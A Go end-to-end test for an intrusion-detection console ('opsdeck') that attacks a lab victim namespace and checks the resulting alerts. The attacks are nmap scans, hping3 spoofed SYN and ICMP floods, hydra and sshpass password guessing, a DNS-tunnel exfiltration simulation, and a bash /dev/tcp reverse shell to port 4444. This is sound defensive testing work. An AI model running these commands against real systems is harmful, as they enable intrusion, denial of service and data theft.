package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opsdeck/opsdeck/internal/lab"
)

// TestLiveLabTriage is issue 14's triage loop, live: opsdeck runs in the
// victim's network namespace of the attack lab (internal/lab), as the
// console in tmux at 160x45 and as watch writing EVE, while real tools
// attack it from the attacker's namespace: a SYN scan, an Xmas scan, a
// spoofed-source SYN flood, FTP password guessing, a bash reverse shell
// to port 4444 that then sits idle, and a DNS tunnel. Without a key
// pressed the screen shows the attacks with actor and target; Enter on the
// reverse shell's alert names its process and explains it; watch's EVE
// names the shell's process. The share of alerts about a flow ending on
// the victim that name their process is logged (the README quotes it).
func TestLiveLabTriage(t *testing.T) {
	bin := buildConsole(t)
	lab.Need(t, "nmap", "hping3", "hydra", "nc", "dig", "bash")
	l := lab.New(t)
	l.HTTP()
	l.FTP()
	l.DNS()
	victim, attacker := lab.VictimAddr.String(), lab.AttackerAddr.String()

	out := filepath.Join(l.Dir, "eve.json")
	watch := l.Start(l.Victim.NS, bin, "watch", "-i", "eth0", "-o", out, "--host-interval", "0")
	exitFile := filepath.Join(l.Dir, "console.exit")
	pidFile := filepath.Join(l.Dir, "console.pid")
	s := startTmux(t, 160, 45, fmt.Sprintf("sh -c 'echo $$ > %s; TERM=tmux-256color exec ip netns exec %s %s -i eth0 --evidence-dir %s'; echo $? > %s; sleep 60",
		pidFile, l.Victim.NS, bin, l.Dir, exitFile))
	s.waitFor("the console capturing in the victim", contains("pkt/s", "eth0"))
	time.Sleep(2 * time.Second) // a socket sample or two before the first attack

	// The reverse shell first: it must be found although it then idles.
	// The attacker listens; bash in the victim connects out and sits.
	// The attacker types one command, then keeps the session open.
	listener := l.Start(l.Attacker.NS, "sh", "-c", "(sleep 2; echo id; sleep 120) | nc -l -p 4444")
	time.Sleep(time.Second) // not WaitPort: nc would take its probe for the shell
	shell := l.Start(l.Victim.NS, "bash", "-c", fmt.Sprintf("exec bash -i >& /dev/tcp/%s/4444 0>&1", attacker))
	time.Sleep(time.Second)

	// An SSH server where root may log in with a key the attacker holds
	// (as if stolen) and password guesses fail: a brute force that ends
	// in a login.
	sshKey := sshdWithKey(t, l)

	steps := []struct {
		what string
		run  func() ([]byte, error)
	}{
		{"SYN scan", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 60*time.Second, "nmap", "-Pn", "-sS", "-T4", "-p", "1-1000", victim)
		}},
		{"Xmas scan", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 60*time.Second, "nmap", "-Pn", "-sX", "-T4", "-p", "1-200", victim)
		}},
		{"spoofed SYN flood", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 30*time.Second, "hping3", "-S", "--rand-source", "-p", "80", "-c", "3000", "-i", "u200", victim)
		}},
		{"ICMP flood", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 30*time.Second, "hping3", "-1", "-c", "3000", "-i", "u200", victim)
		}},
		{"ping sweep", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 60*time.Second, "nmap", "-sn", "-PE", "--send-ip", "-n", "-T5", "--max-retries", "0", "10.77.0.100-140")
		}},
		{"HTTP Basic login", func() ([]byte, error) {
			return l.Run(l.Attacker.NS, 10*time.Second, "curl", "-sS", "-u", "admin:hunter2", "http://"+victim+"/")
		}},
		{"FTP password guessing", func() ([]byte, error) {
			pw := filepath.Join(l.Dir, "pw.txt")
			var b strings.Builder
			for i := range 30 {
				fmt.Fprintf(&b, "guess%03d\n", i)
			}
			os.WriteFile(pw, []byte(b.String()), 0o644)
			return l.Run(l.Attacker.NS, 60*time.Second, "hydra", "-I", "-t", "4", "-l", "admin", "-P", pw, "ftp://"+victim)
		}},
		{"SSH brute force, then a login", func() ([]byte, error) {
			ssh := []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5"}
			for i := range 12 {
				l.Run(l.Attacker.NS, 10*time.Second, "sshpass", append(append([]string{"-p", fmt.Sprintf("guess%03d", i), "ssh"}, ssh...),
					"-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "root@"+victim, "true")...)
			}
			return l.Run(l.Attacker.NS, 30*time.Second, "ssh", append(append([]string{"-i", sshKey}, ssh...),
				"-o", "BatchMode=yes", "root@"+victim, "head -c 300000 /dev/zero")...)
		}},
		{"DNS tunnel", func() ([]byte, error) {
			for i := range 30 {
				label := fmt.Sprintf("%x", []byte(fmt.Sprintf("exfiltrated-record-%04d-of-the-payroll-db", i)))
				if _, err := l.Run(l.Attacker.NS, 5*time.Second, "dig", "+tries=1", "+time=1", "@"+victim, "TXT", label[:60]+"."+label[60:]+".t.lab.test"); err != nil {
					return nil, err
				}
			}
			return nil, nil
		}},
	}
	for _, st := range steps {
		if out, err := st.run(); err != nil {
			t.Logf("%s: %v\n%s", st.what, err, out)
		}
	}
	time.Sleep(8 * time.Second) // windows close, torn-down flows end (5 s), samples arrive

	// The console's memory after the flood, for the README (the evidence
	// ring's 64 MiB bound included).
	if b, err := os.ReadFile(pidFile); err == nil {
		if st, err := os.ReadFile("/proc/" + strings.TrimSpace(string(b)) + "/status"); err == nil {
			for _, line := range strings.Split(string(st), "\n") {
				if strings.HasPrefix(line, "VmRSS") || strings.HasPrefix(line, "VmHWM") {
					t.Logf("console after the attacks: %s", strings.Join(strings.Fields(line), " "))
				}
			}
		}
	}
	scr := s.waitFor("the attacks on screen", contains("alerts H", attacker))
	t.Logf("screen after the attacks, no key pressed:\n%s", scr)
	// Zoom the alerts and open the reverse shell's alert.
	// One key per send: runes that arrive together are read as one key.
	press := func(k string) {
		s.run("send-keys", "-t", "e2e", k)
		time.Sleep(150 * time.Millisecond)
	}
	press("4")
	press("z")
	zoomed := s.waitFor("the zoomed alerts", func(scr string) bool {
		return strings.Contains(scr, "4 alerts") && !strings.Contains(scr, "1 system")
	})
	t.Logf("the alerts, zoomed:\n%s", zoomed)
	// One row per attack: the floods, scans and brute forces each fold
	// their updates into one row.
	for _, rule := range []string{"dos.synflood", "scan.stealth", "scan.port", "dos.icmpflood"} {
		if n := strings.Count(zoomed, " "+rule+" "); n > 1 {
			t.Errorf("%d rows of %s for one attack:\n%s", n, rule, zoomed)
		}
	}
	for _, want := range []string{"scan.port", "scan.stealth", "scan.sweep", "dos.synflood", "dos.icmpflood", "cred.cleartext",
		"bruteforce.ftp", "bruteforce.ssh", "bruteforce.success", "dns.tunnel", "port.suspicious"} {
		if !strings.Contains(zoomed, want) {
			t.Errorf("the zoomed alerts lack %s", want)
		}
	}
	row := -1
	for i, line := range strings.Split(zoomed, "\n") {
		if strings.Contains(line, "port.suspicious") {
			row = i
			break
		}
	}
	top := -1
	for i, line := range strings.Split(zoomed, "\n") {
		if strings.Contains(line, "4 alerts") {
			top = i
			break
		}
	}
	if row > top && top >= 0 {
		for range row - top - 1 {
			press("Down")
		}
		press("Enter")
		detail := s.waitFor("the reverse shell's alert detail", contains("happened", "port.suspicious"))
		t.Logf("the reverse shell's alert, after Enter:\n%s", detail)
		if !strings.Contains(detail, "bash") {
			t.Errorf("the reverse shell's alert does not name bash:\n%s", detail)
		}
	}
	press("Escape")
	press("q")

	l.Stop(shell)
	l.Stop(listener)
	l.Stop(watch)
	recs := eveFiles(t, []string{out})
	shellNamed, withFlow, named := false, 0, 0
	for _, r := range recs {
		if r.str("event_type") != "alert" || r.str("flow_id") == "" {
			continue
		}
		if r.str("src_ip") != victim && r.str("dest_ip") != victim {
			continue
		}
		b := fmt.Sprint(map[string]any(r))
		withFlow++
		if strings.Contains(b, "pid") {
			named++
		}
		if r.str("alert.metadata.rule[0]") == "port.suspicious" && strings.Contains(b, "bash") {
			shellNamed = true
		}
	}
	if !shellNamed {
		t.Errorf("no port.suspicious alert in EVE names bash (the reverse shell's process)")
	}
	breakIn := false
	for _, r := range recs {
		if r.str("event_type") == "alert" && r.str("alert.metadata.rule[0]") == "bruteforce.success" && r.str("src_ip") == attacker {
			breakIn = true
			t.Logf("the break-in: %s %v", r.str("alert.signature"), r.get("opsdeck.process"))
		}
	}
	if !breakIn {
		t.Errorf("no bruteforce.success for the SSH login after the brute force")
	}
	t.Logf("attribution: %d of %d alert records about a flow ending on the victim name a process", named, withFlow)
	// The alerts whose victim-side socket ss -p can name (a service or the
	// shell), as opposed to probes of closed ports and spoofed floods.
	served := map[string]bool{"port.suspicious": true, "bruteforce.ssh": true, "bruteforce.ftp": true, "bruteforce.success": true,
		"cred.cleartext": true, "dns.tunnel": true}
	sessions, sessionsNamed := map[string]bool{}, map[string]bool{}
	for _, r := range recs {
		rule := r.str("alert.metadata.rule[0]")
		if r.str("event_type") != "alert" || !served[rule] {
			continue
		}
		k := rule + " " + r.str("flow_id")
		sessions[k] = true
		if r.get("opsdeck.process") != nil {
			sessionsNamed[k] = true
		}
	}
	t.Logf("attribution where a process holds the victim's socket: %d of %d alerts (rule and flow) name it", len(sessionsNamed), len(sessions))
}

// sshdWithKey starts sshd in the lab's victim on port 22 with password
// logins allowed (every guess fails: no password is right) and root's login
// by a key made here, whose private half it returns (for the attacker).
func sshdWithKey(t *testing.T, l *lab.Lab) string {
	t.Helper()
	lab.Need(t, "sshd", "ssh-keygen", "ssh", "sshpass")
	dir := filepath.Join(l.Dir, "sshd-key")
	os.MkdirAll(dir, 0o755)
	for _, k := range []string{"host", "client"} {
		if out, err := l.Run(l.Victim.NS, 10*time.Second, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(dir, k)); err != nil {
			t.Fatalf("ssh-keygen: %v: %s", err, out)
		}
	}
	pub, err := os.ReadFile(filepath.Join(dir, "client.pub"))
	if err != nil {
		t.Fatal(err)
	}
	keys := filepath.Join(dir, "authorized_keys")
	os.WriteFile(keys, pub, 0o600)
	os.MkdirAll("/run/sshd", 0o755)
	cfg := filepath.Join(dir, "sshd_config")
	os.WriteFile(cfg, []byte(fmt.Sprintf(`Port 22
ListenAddress %s
HostKey %s
PidFile %s
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin yes
AuthorizedKeysFile %s
StrictModes no
MaxAuthTries 3
MaxStartups 200
LoginGraceTime 20
LogLevel ERROR
`, lab.VictimAddr, filepath.Join(dir, "host"), filepath.Join(dir, "sshd.pid"), keys)), 0o644)
	l.Start(l.Victim.NS, "sshd", "-D", "-e", "-f", cfg)
	l.WaitPort("tcp", lab.VictimAddr, 22)
	return filepath.Join(dir, "client")
}
